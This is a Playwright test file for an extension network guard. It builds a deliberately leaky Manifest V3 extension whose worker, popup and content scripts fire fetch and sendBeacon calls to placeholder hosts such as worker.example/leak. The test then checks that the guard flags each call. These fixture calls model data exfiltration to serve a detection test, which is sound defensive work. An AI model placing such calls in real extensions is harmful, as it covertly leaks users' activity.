import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { createReplica } from '#test/replica/replica.ts';
import { type ExtensionBrowser, launchExtension } from '#test/rig/launch.ts';

/** "No violations" is worth something only if an extension that leaks is caught. */
test.describe.configure({ timeout: 20_000 });

test.describe('the guard of the network', () => {
  let folder: string;
  let browser: ExtensionBrowser;

  test.beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'feedscout-leaky-'));
    const files = {
      'manifest.json': JSON.stringify({
        manifest_version: 3,
        name: 'Leaky',
        version: '1',
        background: { service_worker: 'worker.js' },
        action: { default_popup: 'popup.html' },
        content_scripts: [
          { matches: ['https://www.tiktok.com/*'], js: ['content.js'], run_at: 'document_idle' },
        ],
      }),
      'worker.js': `
        const leak = () => fetch('https://worker.example/leak').catch(() => {});
        chrome.runtime.onMessage.addListener((message, sender, answer) => { leak(); answer('ok'); });`,
      'popup.html':
        '<!doctype html><title>Leaky</title><button>Leak</button><script src="popup.js"></script>',
      'popup.js': `document.querySelector('button').onclick = () =>
        void navigator.sendBeacon('https://popup.example/leak', 'x');`,
      'content.js': `
        fetch('https://content.example/leak').catch(() => {});
        fetch('https://www.tiktok.com/api/leak').catch(() => {});
        chrome.runtime.sendMessage('go');`,
    };
    for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
    browser = await launchExtension({
      extensionDir: folder,
      replica: createReplica({ size: 10 }),
      // This extension is not ours: no page opens after its installation.
      keepsStartPage: true,
    });
  });

  test.afterAll(async () => {
    await browser?.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('catches worker, popup and content script, and leaves the page alone', async () => {
    const page = await browser.context.newPage();
    await page.goto('https://www.tiktok.com/foryou');
    const urls = () =>
      browser
        .violations()
        .map(({ url }) => url)
        .sort();
    await expect
      .poll(urls)
      .toEqual(
        expect.arrayContaining([
          'https://content.example/leak',
          'https://www.tiktok.com/api/leak',
          expect.stringContaining('https://worker.example/'),
        ]),
      );
    const popup = await browser.openPopup(page);
    await popup.getByRole('button', { name: 'Leak' }).click();
    await expect.poll(urls).toContainEqual(expect.stringContaining('https://popup.example/'));
    expect(browser.violations().filter(({ url }) => url.includes('item_list'))).toEqual([]);
  });

  test('starts a stopped worker again, which has forgotten everything', async () => {
    const first = await browser.serviceWorker();
    await first.evaluate(() => Object.assign(globalThis, { mark: 1 }));
    await browser.stopServiceWorker();
    const second = await browser.serviceWorker();
    expect(await second.evaluate(() => 'mark' in globalThis)).toBe(false);
  });
});
